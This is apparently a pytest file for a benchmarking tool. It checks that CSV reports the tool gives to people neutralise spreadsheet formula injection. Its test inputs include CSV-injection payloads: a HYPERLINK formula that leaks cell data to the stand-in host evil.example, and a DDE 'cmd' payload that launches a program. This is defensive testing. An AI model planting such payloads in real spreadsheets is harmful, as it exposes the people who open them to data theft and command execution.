"""Issue 25, item 15: cosmetic but expected. The CSV `report` hands to people cannot run formulas in a spreadsheet,
a failed case is one line on stderr (its traceback in the run's log), a mistyped `--history` creates no database,
and a large suite validates fast and names colliding cases."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from test_hostile_input import snapshot
from test_report import make_run_dir

from ticketbench.bench.cli import main

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
            "\tx"]  # fmt: skip


def test_report_csv_neutralises_formula_cells_and_leaves_results_csv_as_it_was(tmp_path):
    run = make_run_dir(tmp_path / "run")
    df = pd.read_csv(run / "results.csv").astype({"device_name": object, "error": object})
    for i, text in enumerate(FORMULAS):
        df.loc[i, "device_name"] = text
    df.loc[len(FORMULAS), "error"] = FORMULAS[1]
    df.to_csv(run / "results.csv", index=False)
    before = snapshot(run)
    assert main(["report", str(run), "--csv", str(tmp_path / "all.csv"), "--html", str(tmp_path / "r.html")]) == 0
    assert snapshot(run) == before  # results.csv (the data contract) keeps every cell as it is
    rows = list(csv.DictReader(io.StringIO((tmp_path / "all.csv").read_text(), newline="")))
    assert [r["device_name"] for r in rows[: len(FORMULAS)]] == ["'" + t for t in FORMULAS]
    assert rows[len(FORMULAS)]["error"] == "'" + FORMULAS[1]
    assert rows[-1]["device_name"] == "Fake cpu"  # plain text untouched
    out = pd.read_csv(tmp_path / "all.csv")
    assert out["latency_ms_p50"].equals(pd.read_csv(run / "results.csv")["latency_ms_p50"])  # numbers stay numbers
    assert (out["latency_ms_p50"].dropna() > 0).all()


@settings(max_examples=80, deadline=None)
@given(cells=st.lists(st.text(max_size=8) | st.sampled_from([*FORMULAS, "\rx"]), min_size=1, max_size=6))
def test_no_text_cell_of_a_shared_csv_starts_a_formula(cells):
    from ticketbench.reports.html import spreadsheet_safe

    df = pd.DataFrame({"text": cells, "number": [-1.5] * len(cells)})
    safe = spreadsheet_safe(df)
    for before, after in zip(cells, safe["text"], strict=True):
        assert not after.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert after in (before, "'" + before)
    assert safe["number"].tolist() == [-1.5] * len(cells) and df["text"].tolist() == cells
